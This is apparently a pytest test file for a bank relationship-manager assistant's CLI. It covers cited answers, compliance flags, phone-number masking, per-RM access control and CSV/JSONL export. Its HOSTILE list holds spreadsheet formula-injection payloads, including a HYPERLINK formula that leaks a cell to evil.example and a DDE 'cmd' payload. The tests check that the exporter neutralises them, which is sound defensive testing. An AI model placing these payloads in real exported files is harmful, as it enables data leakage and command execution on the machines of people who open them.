"""`rm-assistant ask` and `rm-assistant review export` (exchanges, contact records; CSV injection, time
zone) through the real CLI entry point."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from datetime import time as dtime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from bot.cli import cli
from bot.cli.export import FORMULA_TRIGGERS, neutralise_cell, write_csv
from bot.composition import open_audit, open_crm
from bot.convlog import ConversationLog
from bot.settings import get_settings
from crm_adapter.orm import AccessLogRow
from crm_adapter.sql import SqlCRM
from knowledge import Answer
from tests.crm_adapter.factories import make_contact, seed_org


@pytest.fixture(scope="module")
def shared_data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    # One data dir for the module: the bundled corpus is embedded once, later runs find it unchanged.
    return tmp_path_factory.mktemp("cli_ops_data")


@pytest.fixture
def runner(monkeypatch: pytest.MonkeyPatch, shared_data_dir: Path) -> CliRunner:
    monkeypatch.setenv("RM_DATA_DIR", str(shared_data_dir))
    get_settings.cache_clear()
    return CliRunner()


def _log() -> ConversationLog:
    return ConversationLog(get_settings().effective_database_url)


def test_ask_json_answers_with_citations(runner: CliRunner) -> None:
    result = runner.invoke(cli, ["ask", "钻石客户一年能约几次专家号？", "--json"])
    assert result.exit_code == 0, result.output
    payload = json.loads(result.stdout.strip().splitlines()[-1])
    assert {"answer", "citations", "grounded", "confidence", "weak", "verdict"} <= set(payload)
    assert payload["grounded"] is True
    assert "5次" in payload["answer"]
    first = payload["citations"][0]
    assert {"n", "source", "title", "text"} <= set(first)
    assert first["n"] == 1 and first["source"].startswith("bundled:")


def test_ask_without_evidence_is_recorded_as_unanswered(runner: CliRunner) -> None:
    result = runner.invoke(cli, ["ask", "今天上海天气怎么样，会下雨吗", "--json"])
    assert result.exit_code == 0, result.output
    payload = json.loads(result.stdout.strip().splitlines()[-1])
    assert payload["citations"] == [] and payload["grounded"] is False and payload["lead"]
    log = _log()
    try:
        assert any("天气" in u.question for u in log.unanswered())
    finally:
        log.close()


def test_ask_questions_file_prints_one_object_per_line(runner: CliRunner, tmp_path: Path) -> None:
    questions = tmp_path / "q.txt"
    questions.write_text("钻石客户有没有免费体检？\n\n客户资产3000万能免费洗车吗\n", encoding="utf-8")
    result = runner.invoke(cli, ["ask", "--json", "--questions", str(questions)])
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in result.stdout.strip().splitlines()]
    assert len(lines) == 2
    assert all(line["grounded"] for line in lines)


def test_ask_flags_compliance_and_masks_numbers(runner: CliRunner) -> None:
    result = runner.invoke(cli, ["ask", "客户13812345678问产品能不能保本"])
    assert result.exit_code == 0, result.output
    assert "合规提示" in result.stdout
    log = _log()
    try:
        latest = log.list_exchanges(flagged_first=False, limit=1)[0]
    finally:
        log.close()
    assert "13812345678" not in latest.question
    assert latest.flags == ("承诺收益",)


@pytest.mark.parametrize("args", [["ask"], ["ask", "   "], ["ask", "--questions", "/nonexistent/q.txt"]])
def test_ask_bad_input_is_one_line_error(runner: CliRunner, args: list[str]) -> None:
    result = runner.invoke(cli, args)
    assert result.exit_code != 0
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_ask_as_a_staff_member_answers_for_their_client_like_the_chat(runner: CliRunner) -> None:
    """`ask --as` takes the chat's path: a question naming one of the RM's clients uses that client."""
    assert runner.invoke(cli, ["crm", "seed-demo"]).exit_code == 0  # idempotent: RM001 owns C0001 张伟
    crm = open_crm(get_settings())
    try:
        zhang = crm.get_client(actor="RM001", client_id="C0001")
    finally:
        crm.close()
    question = "张伟免费洗车能约几次"  # the name followed directly by a noun

    def ask(*extra: str) -> dict[str, object]:
        result = runner.invoke(cli, ["ask", question, "--json", *extra])
        assert result.exit_code == 0, result.output
        return dict(json.loads(result.stdout.strip().splitlines()[-1]))

    general = ask()  # without --as: the general rule, as before
    assert "client" not in general and "张伟" not in str(general["answer"])
    mine = ask("--as", "RM001")
    assert mine["client"] == {"id": "C0001", "name": "张伟", "tier": zhang.tier.value}
    assert "张伟" in str(mine["answer"]) and mine["answer"] != general["answer"]
    assert "client" not in ask("--as", "RM002")  # not RM002's client: nothing of it is used
    plain = runner.invoke(cli, ["ask", question, "--as", "rm001"])
    assert f"依据客户卡片：张伟，{zhang.tier.value}客户" in plain.stdout
    trail = open_audit(get_settings())
    try:
        reads = [e for e in trail.find(kind="client_read", ref="C0001") if e.payload["what"] == "answer"]
    finally:
        trail.close()
    assert len(reads) == 2 and {e.actor for e in reads} == {"RM001"}
    for args, message in (
        (["--as", "NOPE"], "NOPE"),
        (["--client", "C0001"], "--as"),
        (["--as", "RM002", "--client", "C0001"], "C0001"),  # another RM's client is refused by the CRM
    ):
        refused = runner.invoke(cli, ["ask", question, *args])
        assert refused.exit_code == 1 and message in refused.output and "Traceback" not in refused.output


def test_review_export_jsonl_and_csv(runner: CliRunner, tmp_path: Path) -> None:
    runner.invoke(cli, ["ask", "钻石客户有没有免费体检？"])
    result = runner.invoke(cli, ["review", "export", "--format", "jsonl"])
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in result.stdout.strip().splitlines()]
    assert rows and {"question", "answer", "grounded", "flagged", "citations"} <= set(rows[0])
    assert all("13812345678" not in row["question"] for row in rows)

    out = tmp_path / "review.csv"
    result = runner.invoke(
        cli, ["review", "export", "--format", "csv", "--since", "2000-01-01", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    records = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert len(records) == len(rows)
    assert records[0]["question"] == rows[0]["question"]

    result = runner.invoke(cli, ["review", "export", "--since", "2999-01-01"])
    assert result.exit_code == 0 and result.stdout == ""


def test_review_export_rejects_bad_date(runner: CliRunner) -> None:
    result = runner.invoke(cli, ["review", "export", "--since", "昨天"])
    assert result.exit_code == 2
    assert "2026-11-01" in result.output


# ---------------------------------------------------------------------- export: CSV injection, formats
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "@SUM(1)",
    "+1",
    "-1",
    "\t=1",
    "\r=1",
    "=1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@",
]
HARMLESS = ["钻石客户有没有免费体检？", "1", "", "a=b", "C0001", " =1", "'=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_cells_are_neutralised_and_read_back_as_text(value: str) -> None:
    buf = io.StringIO(newline="")
    write_csv(buf, ("a", "b"), [{"a": value, "b": "ok"}])
    header, row = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert header == ["a", "b"]
    assert row == ["'" + value, "ok"]
    assert not row[0].startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_cells_are_unchanged(value: str) -> None:
    assert neutralise_cell(value) == value
    assert neutralise_cell(None) == "" and neutralise_cell(-5) == "'-5" and neutralise_cell(True) == "True"


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
@pytest.mark.parametrize("payload", ["", "1", "cmd|' /C calc'!A0", 'HYPERLINK("x")', "\n=2", "\"'"])
def test_every_trigger_with_any_payload_reads_back_safe(trigger: str, payload: str) -> None:
    value = trigger + payload
    buf = io.StringIO(newline="")
    write_csv(buf, ("x",), [{"x": value}])
    [_, [cell]] = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert cell == "'" + value


def _record(log: ConversationLog, question: str, answer: str = "答复") -> int:
    result = Answer(question=question, lead=(answer,), citations=(), grounded=False)
    return log.record(staff_code="RM001", channel="cli", question=question, answer=result).id


def _set_created_at(log: ConversationLog, exchange_id: int, moment: datetime) -> None:
    table = sa.table("bot_exchanges", sa.column("id", sa.Integer), sa.column("created_at", sa.DateTime(True)))
    with log.engine.begin() as conn:
        conn.execute(sa.update(table).where(table.c.id == exchange_id).values(created_at=moment))


def test_export_csv_neutralises_hostile_exchanges_and_o_csv_implies_csv(tmp_path: Path) -> None:
    log = _log()
    try:
        for value in HOSTILE:
            _record(log, value, answer=value)
    finally:
        log.close()
    out = tmp_path / "review.CSV"
    result = CliRunner().invoke(cli, ["review", "export", "-o", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8-sig", newline="") as fh:  # newline="": keep the \r inside a cell
        records = list(csv.DictReader(fh))
    assert [r["question"] for r in records] == ["'" + v for v in HOSTILE]
    assert [r["answer"] for r in records] == ["'" + v for v in HOSTILE]
    assert not any(cell.startswith(FORMULA_TRIGGERS) for r in records for cell in r.values())
    assert "exported 9 exchange(s) of all dates (dates and timestamps in Asia/Shanghai)" in result.stderr

    # JSON lines are data: the values as stored; --format wins over the file name.
    jsonl = tmp_path / "review.csv"
    result = CliRunner().invoke(cli, ["review", "export", "-o", str(jsonl), "--format", "jsonl"])
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
    assert [r["question"] for r in rows] == HOSTILE
    other = tmp_path / "review.txt"
    assert CliRunner().invoke(cli, ["review", "export", "-o", str(other)]).exit_code == 0
    assert json.loads(other.read_text(encoding="utf-8").splitlines()[0])["question"] == HOSTILE[0]


@pytest.mark.parametrize(
    ("zone", "day", "included", "stamp"),
    [
        ("Asia/Shanghai", "2026-11-01", True, "2026-11-01T00:30:00+08:00"),
        ("Asia/Shanghai", "2026-10-31", False, None),
        ("UTC", "2026-10-31", True, "2026-10-31T16:30:00+00:00"),
    ],
)
def test_export_dates_are_days_in_the_bank_time_zone(
    monkeypatch: pytest.MonkeyPatch, zone: str, day: str, included: bool, stamp: str | None
) -> None:
    monkeypatch.setenv("RM_TIMEZONE", zone)
    get_settings.cache_clear()
    log = _log()
    try:
        exchange_id = _record(log, "午夜前后的问题")
        _set_created_at(log, exchange_id, datetime(2026, 10, 31, 16, 30, tzinfo=UTC))  # 00:30 in Shanghai
    finally:
        log.close()
    result = CliRunner().invoke(cli, ["review", "export", "--since", day, "--until", day])
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["created_at"] for r in rows] == ([stamp] if included else [])
    assert f"from {day} to {day} inclusive (dates and timestamps in {zone})" in result.stderr


def test_export_rejects_a_reversed_range_and_contact_options_for_exchanges() -> None:
    result = CliRunner().invoke(cli, ["review", "export", "--since", "2026-11-02", "--until", "2026-11-01"])
    assert result.exit_code == 2 and "before --since" in result.stderr
    result = CliRunner().invoke(cli, ["review", "export", "--rm", "RM001"])
    assert result.exit_code == 2 and "--what contacts" in result.stderr


# ---------------------------------------------------------------------- export: contact records
@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def contacts_crm(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[SqlCRM]:
    if request.param == "postgres":
        monkeypatch.setenv("DATABASE_URL", request.getfixturevalue("postgres_url"))
        get_settings.cache_clear()
    crm = open_crm(get_settings())
    try:
        seed_org(crm)
        yield crm
    finally:
        crm.close()


def _export_contacts(*args: str) -> tuple[list[dict[str, str]], str]:
    result = CliRunner().invoke(cli, ["review", "export", "--what", "contacts", "--format", "csv", *args])
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout, newline=""))), result.stderr


def test_export_contacts_through_the_crm_as_the_operator(contacts_crm: SqlCRM) -> None:
    shanghai = ZoneInfo("Asia/Shanghai")
    day = datetime.now(shanghai).date() - timedelta(days=10)
    midnight = datetime.combine(day, dtime(0, 30), tzinfo=shanghai)  # the day before, in UTC
    make_contact(
        contacts_crm,
        actor="RM001",
        client_id="C0001",
        summary="=1+1 客户手机13812345678",
        occurred_at=midnight,
    )
    make_contact(contacts_crm, actor="RM002", client_id="C0003", summary="面谈资产配置", occurred_at=midnight)
    make_contact(contacts_crm, actor="RM003", client_id="C0004", summary="微信问候", occurred_at=midnight)
    with contacts_crm.engine.begin() as conn:
        conn.execute(sa.delete(AccessLogRow))

    rows, stderr = _export_contacts()
    assert sorted(r["client_id"] for r in rows) == ["C0001", "C0003", "C0004"]
    first = next(r for r in rows if r["client_id"] == "C0001")
    assert first["summary"] == "'=1+1 客户手机138****5678"
    assert first["occurred_at"] == midnight.isoformat() and first["channel"] == "电话"
    assert "exported 3 contact record(s) of every RM as CLI of all dates" in stderr
    with contacts_crm.engine.connect() as conn:
        logged = conn.execute(sa.select(AccessLogRow.actor, AccessLogRow.action)).all()
    assert logged and {tuple(row) for row in logged} == {("CLI", "contacts")}

    assert [r["rm_code"] for r in _export_contacts("--rm", "RM002")[0]] == ["RM002"]
    assert sorted(r["rm_code"] for r in _export_contacts("--as", "SUP01")[0]) == ["RM001", "RM002"]
    assert len(_export_contacts("--since", str(day), "--until", str(day))[0]) == 3
    before = str(day - timedelta(days=1))
    assert _export_contacts("--since", before, "--until", before)[0] == []

    result = CliRunner().invoke(cli, ["review", "export", "--what", "contacts", "--as", "TRN01"])
    assert result.exit_code == 0 and result.stdout == ""  # a trainer sees no client data
    result = CliRunner().invoke(cli, ["review", "export", "--what", "contacts", "--as", "NOPE"])
    assert result.exit_code == 1 and "NOPE" in result.stderr and "Traceback" not in result.output

    result = CliRunner().invoke(cli, ["review", "export", "--what", "contacts"])
    jsonl = [json.loads(line) for line in result.stdout.splitlines()]
    assert {r["summary"] for r in jsonl} >= {"=1+1 客户手机138****5678"} and isinstance(
        jsonl[0]["topics"], list
    )
